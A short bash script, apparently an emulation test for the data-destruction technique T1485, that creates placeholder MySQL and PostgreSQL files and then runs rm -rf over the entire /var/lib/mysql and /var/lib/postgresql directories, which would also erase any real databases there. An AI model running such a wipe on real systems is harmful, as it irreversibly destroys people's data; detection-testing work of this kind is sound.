#!/bin/bash
# T1485: Databases are deleted below the server.
mkdir -p /var/lib/mysql/shop /var/lib/postgresql/15/main/base; for i in 1 2 3 4 5 6; do echo x >/var/lib/mysql/shop/t$i.ibd; echo x >/var/lib/postgresql/15/main/base/$i; done; rm -rf /var/lib/mysql/* /var/lib/postgresql/*
